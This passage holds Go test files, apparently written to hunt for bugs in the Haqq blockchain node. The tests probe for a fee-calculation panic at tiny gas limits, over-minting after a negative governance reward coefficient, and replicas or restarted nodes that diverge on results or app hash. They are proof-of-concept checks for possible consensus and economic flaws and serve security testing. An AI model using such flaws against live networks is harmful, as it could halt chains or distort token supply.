	res, err := testutil.DeliverTx(s.ctx, s.app, privKey, &gasPrice, signing.SignMode_SIGN_MODE_DIRECT, &msg)
	suite.Require().NoError(err)
	suite.Require().True(res.IsOK(), res.GetLog())
	suite.Require().Greater(res.GasUsed, int64(0))

	// the next block must start and must carry an EIP-1559 base fee
	panicked := zzNextBlock()
	suite.Require().Nil(panicked,
		fmt.Sprintf("BeginBlock of the block after a %d-gas transaction panicked with max_gas = 0 (unlimited): %v", res.GasUsed, panicked))

	feeAfter := s.app.FeeMarketKeeper.GetBaseFee(s.ctx)
	suite.Require().NotNil(feeAfter)
	suite.T().Logf("base fee %s -> %s", feeBefore, feeAfter)
	// unlimited block gas: the block was (far) below any target, the fee may not rise
	suite.Require().True(feeAfter.Cmp(feeBefore) <= 0, "base fee %s -> %s", feeBefore, feeAfter)
	suite.Require().True(feeAfter.Cmp(big.NewInt(0)) >= 0)
}

// Same hole, other corner: any block gas limit below the elasticity multiplier
// (both pass their validation) gives the target 0.
func (suite *KeeperTestSuite) TestZZHuntTargetZeroSmallMaxGas() {
	suite.SetupTest()
	params := suite.app.FeeMarketKeeper.GetParams(suite.ctx)
	suite.Require().NoError(params.Validate())
	suite.Require().Equal(uint32(2), params.ElasticityMultiplier)

	suite.ctx = suite.ctx.WithBlockHeight(5).WithConsensusParams(&tmproto.ConsensusParams{
		Block: &tmproto.BlockParams{MaxGas: 1, MaxBytes: 200000},
	})
	suite.app.FeeMarketKeeper.SetBlockGasWanted(suite.ctx, 1)

	var fee *big.Int
	suite.Require().NotPanics(func() { fee = suite.app.FeeMarketKeeper.CalculateBaseFee(suite.ctx) },
		"CalculateBaseFee with max_gas = 1, elasticity = 2, parent gas = 1")
	suite.Require().NotNil(fee)
}
