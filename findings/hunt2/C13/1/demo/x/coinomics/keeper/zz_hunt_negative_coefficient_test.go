package keeper_test

import (
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/x/params"
	paramproposal "github.com/cosmos/cosmos-sdk/x/params/types/proposal"

	"github.com/haqq-network/haqq/x/coinomics/types"
)

// changeRewardCoefficient runs the same handler the gov module runs for a passed
// ParameterChangeProposal (app.go: govRouter.AddRoute(paramproposal.RouterKey, ...)).
func (suite *KeeperTestSuite) zzChangeRewardCoefficient(value string) error {
	handler := params.NewParamChangeProposalHandler(suite.app.ParamsKeeper)
	return handler(suite.ctx, paramproposal.NewParameterChangeProposal(
		"coefficient", "coefficient",
		[]paramproposal.ParamChange{
			paramproposal.NewParamChange(types.ModuleName, string(types.ParamStoreKeyRewardCoefficient), `"`+value+`"`),
		},
	))
}

// Property C13: in each block with coinomics enabled the chain mints
// bonded x rewardCoefficient% x elapsed / year, with elapsed measured between
// CONSECUTIVE block timestamps.
//
// History: coefficient 7.8 -> governance sets it to -7.8 (accepted by the parameter
// validation) -> 100 blocks -> governance sets it back to 7.8.
// The first block with the restored coefficient must mint for its own 6 seconds only.
func (suite *KeeperTestSuite) TestZZHuntNegativeCoefficientFreezesTimestamp() {
	suite.SetupTest()

	p := suite.app.CoinomicsKeeper.GetParams(suite.ctx)
	p.EnableCoinomics = true
	p.RewardCoefficient = sdk.NewDecWithPrec(78, 1)
	suite.app.CoinomicsKeeper.SetParams(suite.ctx, p)

	// a few regular blocks (6 s each): minting is running
	suite.Commit(3)
	supply := func() sdk.Int { return suite.app.BankKeeper.GetSupply(suite.ctx, denomMint).Amount }
	bonded := suite.app.StakingKeeper.TotalBondedTokens(suite.ctx)
	suite.Require().True(bonded.IsPositive())

	before := supply()
	suite.Commit(1)
	regularBlockMint := supply().Sub(before)

	// formula amount for one 6 s block in 2022 (365 days): bonded * 7.8% * 6000 / 31536000000
	oneBlock := sdk.NewDecFromInt(bonded).
		Mul(sdk.NewDecWithPrec(78, 1).Quo(sdk.NewDec(100))).
		Mul(sdk.NewDec(6000).Quo(sdk.NewDec(31536000000))).RoundInt()
	suite.Require().Equal(oneBlock.String(), regularBlockMint.String(), "sanity: a regular block mints the formula amount")

	// governance: negative coefficient. The parameter validation accepts it.
	if err := suite.zzChangeRewardCoefficient("-7.800000000000000000"); err != nil {
		// the configuration is refused: the history below cannot happen
		suite.T().Logf("negative coefficient rejected by the parameter validation: %v", err)
		suite.Require().False(suite.app.CoinomicsKeeper.GetParams(suite.ctx).RewardCoefficient.IsNegative())
		return
	}

	before = supply()
	suite.Commit(100) // 600 s
	suite.Require().Equal(before.String(), supply().String(), "nothing can be minted with a negative coefficient")

	// governance: back to 7.8
	suite.Require().NoError(suite.zzChangeRewardCoefficient("7.800000000000000000"))

	before = supply()
	suite.Commit(1) // one block, 6 s after the previous one
	minted := supply().Sub(before)

	suite.Require().Equal(oneBlock.String(), minted.String(),
		"the block mints bonded x 7.8%% x 6s/year; got %s x that amount", sdk.NewDecFromInt(minted).Quo(sdk.NewDecFromInt(oneBlock)))
}
