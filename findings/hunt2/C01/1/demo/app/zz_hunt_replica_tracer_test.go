package app_test

// Two replicas built from the same genesis and fed the same block must agree on the
// transaction results and on the application hash.  The only difference between the
// replicas below is the node-local `evm.tracer` option of app.toml (a documented,
// validated option: json|struct|access_list|markdown), i.e. how the node was constructed.

import (
	"bytes"
	"encoding/hex"
	"encoding/json"
	"math/big"
	"testing"
	"time"

	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	tmtypes "github.com/cometbft/cometbft/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	servertypes "github.com/cosmos/cosmos-sdk/server/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/cosmos/ibc-go/v7/testing/mock"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/encoding"
	srvflags "github.com/haqq-network/haqq/server/flags"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

const zzChainID = utils.TestEdge2ChainID + "-3"

// zzAppOpts is a node-local app.toml / CLI flag set.
type zzAppOpts map[string]interface{}

func (o zzAppOpts) Get(k string) interface{} { return o[k] }

var _ servertypes.AppOptions = zzAppOpts{}

// zzNewReplica constructs one independent node on its own database.
func zzNewReplica(opts zzAppOpts) *app.Haqq {
	return app.NewHaqq(
		log.NewNopLogger(), dbm.NewMemDB(), nil, true, map[int64]bool{},
		app.DefaultNodeHome, 0,
		encoding.MakeConfig(app.ModuleBasics),
		opts,
		baseapp.SetChainID(zzChainID),
	)
}

// zzGenesis builds one genesis document (one validator, one funded EOA).
func zzGenesis(t *testing.T) (stateBytes []byte, priv *ethsecp256k1.PrivKey, proposer []byte) {
	t.Helper()

	privVal := mock.NewPV()
	pubKey, err := privVal.GetPubKey()
	require.NoError(t, err)
	validator := tmtypes.NewValidator(pubKey, 1)
	valSet := tmtypes.NewValidatorSet([]*tmtypes.Validator{validator})

	addr, priv := utiltx.NewAddrKey()
	acc := authtypes.NewBaseAccount(sdk.AccAddress(addr.Bytes()), nil, 0, 0)
	amount, ok := sdk.NewIntFromString("1000000000000000000000000")
	require.True(t, ok)
	balance := banktypes.Balance{
		Address: acc.GetAddress().String(),
		Coins:   sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, amount)),
	}

	// the codec of any instance will do to render the genesis document
	tmp := zzNewReplica(zzAppOpts{})
	genesisState := app.GenesisStateWithValSet(tmp, app.NewDefaultGenesisState(), valSet, []authtypes.GenesisAccount{acc}, balance)
	stateBytes, err = json.MarshalIndent(genesisState, "", " ")
	require.NoError(t, err)

	return stateBytes, priv, validator.Address.Bytes()
}

func zzInitChain(replica *app.Haqq, stateBytes []byte) {
	replica.InitChain(abci.RequestInitChain{
		ChainId:         zzChainID,
		Validators:      []abci.ValidatorUpdate{},
		ConsensusParams: app.DefaultConsensusParams,
		AppStateBytes:   stateBytes,
		Time:            time.Unix(1_700_000_000, 0).UTC(),
	})
}

// zzRunBlock feeds one block to a replica and returns what the replica answers to CometBFT.
func zzRunBlock(replica *app.Haqq, header tmproto.Header, txs [][]byte) (results []abci.ResponseDeliverTx, appHash []byte) {
	replica.BeginBlock(abci.RequestBeginBlock{Header: header, Hash: bytes.Repeat([]byte{0xAB}, 32)})
	for _, bz := range txs {
		results = append(results, replica.DeliverTx(abci.RequestDeliverTx{Tx: bz}))
	}
	replica.EndBlock(abci.RequestEndBlock{Height: header.Height})
	return results, replica.Commit().Data
}

func TestZZHuntReplicasWithDifferentEvmTracerAgree(t *testing.T) {
	stateBytes, priv, proposer := zzGenesis(t)

	// replica A: default app.toml; replica B: `evm.tracer = "access_list"`
	replicaA := zzNewReplica(zzAppOpts{})
	replicaB := zzNewReplica(zzAppOpts{srvflags.EVMTracer: evmtypes.TracerAccessList})
	zzInitChain(replicaA, stateBytes)
	zzInitChain(replicaB, stateBytes)

	// one ordinary contract deployment: init code returns the 1-byte runtime code 0x01
	initCode := common.FromHex("0x600160005360016000f3")
	chainID := replicaA.EvmKeeper.ChainID()
	require.NotNil(t, chainID)
	msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:   chainID,
		Nonce:     0,
		To:        nil,
		GasLimit:  200_000,
		GasFeeCap: big.NewInt(2_000_000_000),
		GasTipCap: big.NewInt(1),
		Input:     initCode,
		Accesses:  &ethtypes.AccessList{},
	})
	msg.From = common.BytesToAddress(priv.PubKey().Address().Bytes()).Hex()
	txCfg := encoding.MakeConfig(app.ModuleBasics).TxConfig
	signedTx, err := utiltx.PrepareEthTx(txCfg, replicaA, priv, msg)
	require.NoError(t, err)
	txBytes, err := txCfg.TxEncoder()(signedTx)
	require.NoError(t, err)

	header := tmproto.Header{
		ChainID:         zzChainID,
		Height:          1,
		Time:            time.Unix(1_700_000_006, 0).UTC(),
		ProposerAddress: proposer,
	}

	resA, hashA := zzRunBlock(replicaA, header, [][]byte{txBytes})
	resB, hashB := zzRunBlock(replicaB, header, [][]byte{txBytes})

	sender := common.BytesToAddress(priv.PubKey().Address().Bytes())
	contract := crypto.CreateAddress(sender, 0)
	ctxA := replicaA.NewContext(true, header)
	ctxB := replicaB.NewContext(true, header)
	t.Logf("replica A: code=%d gasUsed=%d contractCode=%x senderBalance=%s appHash=%X",
		resA[0].Code, resA[0].GasUsed, replicaA.EvmKeeper.GetCode(ctxA, common.BytesToHash(replicaA.EvmKeeper.GetAccountOrEmpty(ctxA, contract).CodeHash)),
		replicaA.BankKeeper.GetBalance(ctxA, sender.Bytes(), utils.BaseDenom), hashA)
	t.Logf("replica B: code=%d gasUsed=%d contractCode=%x senderBalance=%s appHash=%X",
		resB[0].Code, resB[0].GasUsed, replicaB.EvmKeeper.GetCode(ctxB, common.BytesToHash(replicaB.EvmKeeper.GetAccountOrEmpty(ctxB, contract).CodeHash)),
		replicaB.BankKeeper.GetBalance(ctxB, sender.Bytes(), utils.BaseDenom), hashB)
	if resB[0].Code != 0 {
		log := resB[0].Log
		if len(log) > 300 {
			log = log[:300]
		}
		t.Logf("replica B log: %s", log)
	}

	require.Equal(t, resA[0].Code, resB[0].Code, "both replicas must report the same result code for the same transaction")
	require.Equal(t, resA[0].GasUsed, resB[0].GasUsed, "both replicas must report the same gas used for the same transaction")
	require.Equal(t, hex.EncodeToString(hashA), hex.EncodeToString(hashB), "both replicas must commit the same application hash")
}
