package app_test

import (
	"bytes"
	"math/big"
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/contracts"
	"github.com/haqq-network/haqq/testutil"
)

// TestZZRestartAfterRegisteringERC20Extensions: a block registers the ERC-20
// precompiles of the module-owned token pairs (Erc20Keeper.RegisterERC20Extensions ->
// EvmKeeper.AddEVMExtensions). The continuous node and a node re-opened from the
// database committed by that very block must then execute the next block identically.
func TestZZRestartAfterRegisteringERC20Extensions(t *testing.T) {
	a, c := zzGenesis(t)
	t0 := time.Date(2024, 1, 1, 0, 0, 10, 0, time.UTC)
	eth := func(i int) common.Address { return common.BytesToAddress(c.addrs[i]) }

	// block 1: empty
	c.exec(a, zzBlock{height: 1, time: t0.Add(6 * time.Second)})

	// block 2: register the coin "acoin" (module-owned pair) and turn the pair into an EVM extension
	var pairAddr common.Address
	b2 := zzBlock{height: 2, time: t0.Add(12 * time.Second)}
	b2.ops = append(b2.ops, func(n *zzNode, ctx sdk.Context) {
		coins := sdk.NewCoins(sdk.NewCoin("acoin", sdkmath.NewInt(1_000_000)))
		require.NoError(t, testutil.FundAccount(ctx, n.app.BankKeeper, c.addrs[1], coins))
		md := banktypes.Metadata{
			Description: "coin", Base: "acoin", Display: "coin", Name: "acoin", Symbol: "COIN",
			DenomUnits: []*banktypes.DenomUnit{{Denom: "acoin", Exponent: 0}, {Denom: "coin", Exponent: 18}},
		}
		pair, err := n.app.Erc20Keeper.RegisterCoin(ctx, md)
		require.NoError(t, err)
		pairAddr = pair.GetERC20Contract()
		require.NoError(t, n.app.Erc20Keeper.RegisterERC20Extensions(ctx))
	})
	r2 := c.exec(a, b2)
	snap := zzCloneDB(t, a.db)

	// the registration is in the committed state ...
	qctx := a.app.BaseApp.NewContext(true, c.header(2, b2.time, nil))
	require.Contains(t, a.app.EvmKeeper.GetParams(qctx).ActivePrecompiles, pairAddr.String())

	// block 3: a plain value transfer and a balanceOf() call on the registered pair
	b3 := zzBlock{height: 3, time: t0.Add(18 * time.Second)}
	ctx := a.app.BaseApp.NewContext(true, c.header(3, b3.time, nil))
	to := eth(2)
	b3.txs = append(b3.txs, c.ethTx(a, ctx, 0, 0, &to, big.NewInt(12345), nil, 100_000))
	data, err := contracts.ERC20MinterBurnerDecimalsContract.ABI.Pack("balanceOf", eth(1))
	require.NoError(t, err)
	b3.txs = append(b3.txs, c.ethTx(a, ctx, 1, 0, &pairAddr, nil, data, 200_000))

	rA := c.exec(a, b3)
	t.Logf("continuous node, block 3: %s", zzFmt(rA))
	require.Equal(t, []uint32{0, 0}, rA.txCodes, "block 3 on the continuous node")

	// ... now the same on a node restarted from the database as committed by block 2
	b := zzOpen(snap)
	info := b.app.Info(abci.RequestInfo{})
	require.Equal(t, int64(2), info.LastBlockHeight)
	require.True(t, bytes.Equal(r2.appHash, info.LastBlockAppHash))

	rB := c.exec(b, b3)
	t.Logf("restarted node,  block 3: %s", zzFmt(rB))
	for i, l := range rB.txLogs {
		t.Logf("restarted node,  block 3, tx %d log: %.120s", i, l)
	}

	require.Equal(t, rA.txCodes, rB.txCodes, "DeliverTx result codes of block 3: continuous vs restarted node")
	require.Equal(t, rA.txGas, rB.txGas, "gas used in block 3: continuous vs restarted node")
	require.Truef(t, bytes.Equal(rA.appHash, rB.appHash), "app hash after block 3: continuous %X, restarted %X", rA.appHash, rB.appHash)
}
