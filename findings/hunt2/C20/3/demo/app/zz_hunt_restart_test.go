package app_test

import (
	"encoding/json"
	"fmt"
	"math/big"
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	tmtypes "github.com/cometbft/cometbft/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	cryptotypes "github.com/cosmos/cosmos-sdk/crypto/types"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	slashingtypes "github.com/cosmos/cosmos-sdk/x/slashing/types"
	"github.com/cosmos/ibc-go/v7/testing/mock"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/testutil"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	haqqtypes "github.com/haqq-network/haqq/types"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

const zzChainID = utils.TestEdge2ChainID + "-1"

// zzNode is one application instance on top of a database.
type zzNode struct {
	app *app.Haqq
	db  *dbm.MemDB
}

func zzOpen(db *dbm.MemDB) *zzNode {
	a := app.NewHaqq(
		log.NewNopLogger(), db, nil, true, map[int64]bool{},
		app.DefaultNodeHome, 5,
		encoding.MakeConfig(app.ModuleBasics),
		simtestutil.NewAppOptionsWithFlagHome(app.DefaultNodeHome),
		baseapp.SetChainID(zzChainID),
	)
	return &zzNode{app: a, db: db}
}

func zzCloneDB(t *testing.T, src *dbm.MemDB) *dbm.MemDB {
	dst := dbm.NewMemDB()
	it, err := src.Iterator(nil, nil)
	require.NoError(t, err)
	defer it.Close()
	for ; it.Valid(); it.Next() {
		k := append([]byte{}, it.Key()...)
		v := append([]byte{}, it.Value()...)
		require.NoError(t, dst.Set(k, v))
	}
	return dst
}

// zzBlock is a recorded block: header data, raw txs and keeper-level operations
// executed between BeginBlock and the txs (same on every node that executes it).
type zzBlock struct {
	height int64
	time   time.Time
	txs    [][]byte
	ops    []func(n *zzNode, ctx sdk.Context)
	pre    func(n *zzNode)
}

type zzBlockResult struct {
	appHash []byte
	txCodes []uint32
	txGas   []int64
	txData  [][]byte
	txLogs  []string
}

type zzChain struct {
	t        *testing.T
	valSet   *tmtypes.ValidatorSet
	proposer sdk.ConsAddress
	privs    []cryptotypes.PrivKey
	addrs    []sdk.AccAddress
}

func (c *zzChain) header(height int64, tm time.Time, appHash []byte) tmproto.Header {
	return testutil.NewHeader(height, tm, zzChainID, c.proposer, appHash, c.valSet.Hash())
}

func (c *zzChain) exec(n *zzNode, b zzBlock) zzBlockResult {
	h := c.header(b.height, b.time, n.app.LastCommitID().Hash)
	votes := []abci.VoteInfo{{
		Validator:       abci.Validator{Address: c.valSet.Validators[0].Address, Power: c.valSet.Validators[0].VotingPower},
		SignedLastBlock: true,
	}}
	if b.pre != nil {
		b.pre(n)
	}
	n.app.BeginBlock(abci.RequestBeginBlock{Header: h, LastCommitInfo: abci.CommitInfo{Votes: votes}})
	ctx := n.app.BaseApp.NewContext(false, h)
	for _, op := range b.ops {
		op(n, ctx)
	}
	res := zzBlockResult{}
	for _, tx := range b.txs {
		r := n.app.DeliverTx(abci.RequestDeliverTx{Tx: tx})
		res.txCodes = append(res.txCodes, r.Code)
		res.txGas = append(res.txGas, r.GasUsed)
		res.txData = append(res.txData, r.Data)
		res.txLogs = append(res.txLogs, r.Log)
	}
	n.app.EndBlock(abci.RequestEndBlock{Height: b.height})
	cr := n.app.Commit()
	res.appHash = cr.Data
	return res
}

func zzGenesis(t *testing.T) (*zzNode, *zzChain) {
	privVal := mock.NewPV()
	pubKey, err := privVal.GetPubKey()
	require.NoError(t, err)
	validator := tmtypes.NewValidator(pubKey, 1)
	valSet := tmtypes.NewValidatorSet([]*tmtypes.Validator{validator})

	c := &zzChain{t: t, valSet: valSet, proposer: sdk.ConsAddress(validator.Address)}

	var genAccs []authtypes.GenesisAccount
	var balances []banktypes.Balance
	amt := sdk.TokensFromConsensusPower(1_000_000, sdk.DefaultPowerReduction)
	for i := 0; i < 4; i++ {
		addr, priv := utiltx.NewAccAddressAndKey()
		c.privs = append(c.privs, priv)
		c.addrs = append(c.addrs, addr)
		genAccs = append(genAccs, &haqqtypes.EthAccount{
			BaseAccount: authtypes.NewBaseAccount(addr, nil, 0, 0),
			CodeHash:    common.BytesToHash(crypto.Keccak256(nil)).String(),
		})
		balances = append(balances, banktypes.Balance{Address: addr.String(), Coins: sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, amt))})
	}

	n := zzOpen(dbm.NewMemDB())
	gs := app.NewDefaultGenesisState()
	gs = app.GenesisStateWithValSet(n.app, gs, valSet, genAccs, balances...)
	slGen := slashingtypes.DefaultGenesisState()
	slGen.SigningInfos = []slashingtypes.SigningInfo{{
		Address:              c.proposer.String(),
		ValidatorSigningInfo: slashingtypes.NewValidatorSigningInfo(c.proposer, 0, 0, time.Unix(0, 0).UTC(), false, 0),
	}}
	gs[slashingtypes.ModuleName] = n.app.AppCodec().MustMarshalJSON(slGen)
	stateBytes, err := json.MarshalIndent(gs, "", " ")
	require.NoError(t, err)
	n.app.InitChain(abci.RequestInitChain{
		ChainId:         zzChainID,
		Validators:      []abci.ValidatorUpdate{},
		ConsensusParams: app.DefaultConsensusParams,
		AppStateBytes:   stateBytes,
		Time:            time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC),
	})
	return n, c
}

func (c *zzChain) cosmosTx(n *zzNode, ctx sdk.Context, who int, msgs ...sdk.Msg) []byte {
	txCfg := encoding.MakeConfig(app.ModuleBasics).TxConfig
	gp := sdkmath.NewInt(100_000_000_000)
	tx, err := utiltx.PrepareCosmosTx(ctx, n.app, utiltx.CosmosTxArgs{
		TxCfg: txCfg, Priv: c.privs[who], ChainID: zzChainID, Gas: 3_000_000, GasPrice: &gp, Msgs: msgs,
	}, signing.SignMode_SIGN_MODE_DIRECT)
	require.NoError(c.t, err)
	bz, err := txCfg.TxEncoder()(tx)
	require.NoError(c.t, err)
	return bz
}

func (c *zzChain) ethTx(n *zzNode, ctx sdk.Context, who int, nonceInc uint64, to *common.Address, amount *big.Int, data []byte, gas uint64) []byte {
	txCfg := encoding.MakeConfig(app.ModuleBasics).TxConfig
	from := common.BytesToAddress(c.addrs[who])
	cid, err := haqqtypes.ParseChainID(zzChainID)
	require.NoError(c.t, err)
	msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:   cid,
		Nonce:     n.app.EvmKeeper.GetNonce(ctx, from) + nonceInc,
		To:        to,
		Amount:    amount,
		GasLimit:  gas,
		GasFeeCap: big.NewInt(200_000_000_000),
		GasTipCap: big.NewInt(1),
		Input:     data,
		Accesses:  &ethtypes.AccessList{},
	})
	msg.From = from.String()
	require.NoError(c.t, msg.Sign(ethtypes.LatestSignerForChainID(cid), utiltx.NewSigner(c.privs[who])))
	tx, err := utiltx.PrepareEthTx(txCfg, n.app, nil, msg)
	require.NoError(c.t, err)
	bz, err := txCfg.TxEncoder()(tx)
	require.NoError(c.t, err)
	return bz
}

func zzFmt(r zzBlockResult) string {
	return fmt.Sprintf("apphash=%X codes=%v gas=%v", r.appHash, r.txCodes, r.txGas)
}

// zzVMError returns the VM error of the first failed MsgEthereumTx response in the tx data.
func zzVMError(t *testing.T, n *zzNode, data []byte) string {
	var txData sdk.TxMsgData
	require.NoError(t, n.app.AppCodec().Unmarshal(data, &txData))
	for _, r := range txData.MsgResponses {
		if r.TypeUrl != "/ethermint.evm.v1.MsgEthereumTxResponse" {
			continue
		}
		var res evmtypes.MsgEthereumTxResponse
		require.NoError(t, res.Unmarshal(r.Value))
		if res.Failed() {
			return res.VmError
		}
	}
	return ""
}
