package app_test

import (
	"testing"
	"time"

	abci "github.com/cometbft/cometbft/abci/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/stretchr/testify/require"

	utiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
	vestingtypes "github.com/haqq-network/haqq/x/vesting/types"
)

// TestZZRestartVestingBalancesQuery: a clawback vesting account of 100 ISLM whose lock-up
// is over and of which one half is vested. The gRPC queries haqq.vesting.v1.Query/Balances
// and cosmos.bank.v1beta1.Query/SpendableBalances must give the same answer on the node
// that produced the last block and on a node re-opened from the same database.
func TestZZRestartVestingBalancesQuery(t *testing.T) {
	a, c := zzGenesis(t)
	genesisTime := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
	blk := func(h int64) zzBlock {
		return zzBlock{height: h, time: genesisTime.Add(time.Duration(10+6*h) * time.Second)}
	}
	vestAddr, vestPriv := utiltx.NewAccAddressAndKey()
	c.addrs, c.privs = append(c.addrs, vestAddr), append(c.privs, vestPriv) // signer #4
	half := sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdk.TokensFromConsensusPower(50, sdk.DefaultPowerReduction)))
	full := half.Add(half...)

	c.exec(a, blk(1))
	b2 := blk(2)
	ctx := a.app.BaseApp.NewContext(true, c.header(2, b2.time, nil))
	b2.txs = append(b2.txs, c.cosmosTx(a, ctx, 3, vestingtypes.NewMsgCreateClawbackVestingAccount(
		c.addrs[3], vestAddr, genesisTime,
		sdkvesting.Periods{{Length: 10, Amount: full}},                                  // lock-up: everything unlocks 10s after the start
		sdkvesting.Periods{{Length: 10, Amount: half}, {Length: 1_000_000, Amount: half}}, // vesting: one half after 10s, the rest much later
		false)))
	r2 := c.exec(a, b2)
	require.Equal(t, []uint32{0}, r2.txCodes, r2.txLogs)
	c.exec(a, blk(3))

	query := func(n *zzNode) (vestingtypes.QueryBalancesResponse, banktypes.QuerySpendableBalancesResponse) {
		var vb vestingtypes.QueryBalancesResponse
		bz, err := (&vestingtypes.QueryBalancesRequest{Address: vestAddr.String()}).Marshal()
		require.NoError(t, err)
		res := n.app.Query(abci.RequestQuery{Path: "/haqq.vesting.v1.Query/Balances", Data: bz})
		require.Zero(t, res.Code, res.Log)
		require.NoError(t, vb.Unmarshal(res.Value))

		var sb banktypes.QuerySpendableBalancesResponse
		bz, err = (&banktypes.QuerySpendableBalancesRequest{Address: vestAddr.String()}).Marshal()
		require.NoError(t, err)
		res = n.app.Query(abci.RequestQuery{Path: "/cosmos.bank.v1beta1.Query/SpendableBalances", Data: bz})
		require.Zero(t, res.Code, res.Log)
		require.NoError(t, sb.Unmarshal(res.Value))
		return vb, sb
	}

	vbA, sbA := query(a)
	b := zzOpen(zzCloneDB(t, a.db))
	require.Equal(t, a.app.LastCommitID(), b.app.LastCommitID())
	vbB, sbB := query(b)

	// a transfer of 10 of the 50 vested and unlocked ISLM, signed by the vesting account, offered to both mempools
	sendTx := c.cosmosTx(a, a.app.BaseApp.NewContext(true, c.header(4, blk(4).time, nil)), 4,
		banktypes.NewMsgSend(vestAddr, c.addrs[0], sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdk.TokensFromConsensusPower(10, sdk.DefaultPowerReduction)))))
	chkA := a.app.CheckTx(abci.RequestCheckTx{Tx: sendTx, Type: abci.CheckTxType_New})
	chkB := b.app.CheckTx(abci.RequestCheckTx{Tx: sendTx, Type: abci.CheckTxType_New})
	t.Logf("continuous node: CheckTx(MsgSend 10 ISLM from the vesting account) code=%d", chkA.Code)
	t.Logf("restarted node : CheckTx(MsgSend 10 ISLM from the vesting account) code=%d log=%.160s", chkB.Code, chkB.Log)

	t.Logf("continuous node: locked=%s unvested=%s vested=%s spendable=%s", vbA.Locked, vbA.Unvested, vbA.Vested, sbA.Balances)
	t.Logf("restarted node : locked=%s unvested=%s vested=%s spendable=%s", vbB.Locked, vbB.Unvested, vbB.Vested, sbB.Balances)

	// sanity: the continuous node reports what the schedule says at the time of the last block
	require.True(t, vbA.Locked.IsZero())
	require.Equal(t, half.String(), vbA.Unvested.String())
	require.Equal(t, half.String(), vbA.Vested.String())
	require.Equal(t, half.String(), sbA.Balances.String())

	require.Equal(t, vbA.Locked.String(), vbB.Locked.String(), "locked coins: continuous vs restarted node")
	require.Equal(t, vbA.Unvested.String(), vbB.Unvested.String(), "unvested coins: continuous vs restarted node")
	require.Equal(t, vbA.Vested.String(), vbB.Vested.String(), "vested coins: continuous vs restarted node")
	require.Equal(t, sbA.Balances.String(), sbB.Balances.String(), "spendable balance: continuous vs restarted node")
	require.Equal(t, chkA.Code, chkB.Code, "CheckTx of the same transfer: continuous vs restarted node")
}

