package app_test

import (
	"testing"
	"time"

	abci "github.com/cometbft/cometbft/abci/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	upgradetypes "github.com/cosmos/cosmos-sdk/x/upgrade/types"
	"github.com/stretchr/testify/require"

	v182 "github.com/haqq-network/haqq/app/upgrades/v1.8.2"
)

// TestZZRestartAfterUpgradeReportsSameInfo: block 3 runs the v1.8.2 software upgrade. The
// node that executed it and a node re-opened from the database committed by any later
// block must answer the ABCI Info request identically (and keep producing equal blocks).
func TestZZRestartAfterUpgradeReportsSameInfo(t *testing.T) {
	a, c := zzGenesis(t)
	t0 := time.Date(2024, 1, 1, 0, 0, 10, 0, time.UTC)
	blk := func(h int64) zzBlock { return zzBlock{height: h, time: t0.Add(time.Duration(h) * 6 * time.Second)} }

	c.exec(a, blk(1))
	b2 := blk(2)
	b2.ops = append(b2.ops, func(n *zzNode, ctx sdk.Context) {
		require.NoError(t, n.app.UpgradeKeeper.ScheduleUpgrade(ctx, upgradetypes.Plan{Name: v182.UpgradeName, Height: 3}))
	})
	c.exec(a, b2)
	infoBefore := a.app.Info(abci.RequestInfo{})

	c.exec(a, blk(3)) // the upgrade handler runs in this block's BeginBlock
	qctx := a.app.BaseApp.NewContext(true, c.header(3, t0, nil))
